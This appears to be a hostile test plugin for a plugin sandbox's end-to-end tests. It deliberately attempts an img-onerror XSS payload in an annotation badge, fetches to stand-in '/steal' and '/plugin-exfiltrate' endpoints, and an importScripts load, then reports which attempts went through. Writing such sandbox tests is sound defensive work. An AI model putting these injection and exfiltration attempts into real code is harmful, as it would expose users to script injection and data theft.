/* @wirthforge-plugin {
  "id": "hostile-fetch", "name": "Hostile: network", "version": "0.0.1", "kind": "analyzer", "weight": "light",
  "description": "A hostile plugin for e2e/plugins.spec.ts: tries every way out to the network",
  "events": [{ "type": "token" }],
  "permissions": { "annotate": true, "draw": false, "storeBytes": 0 }
} */
let tried = false;
export default {
  async events(_events, api) {
    if (tried) return;
    tried = true;
    api.annotate({ target: 'markup', badge: '<img src=x onerror="window.__pluginPwned = 1"><b>bold</b>' });
    const outcomes = [];
    for (const url of ['http://127.0.0.1:1/steal', `${location.origin}/plugin-exfiltrate?data=1`, 'https://example.com/']) {
      try {
        await fetch(url, { mode: 'no-cors' });
        outcomes.push('fetch went through');
      } catch (error) {
        outcomes.push(`fetch: ${error.name}`);
      }
    }
    try {
      importScripts('/plugin-exfiltrate-script.js');
      outcomes.push('importScripts went through');
    } catch (error) {
      outcomes.push(`importScripts: ${error.name}`);
    }
    api.annotate({ target: 'network', badge: outcomes.join(', ') });
  },
};
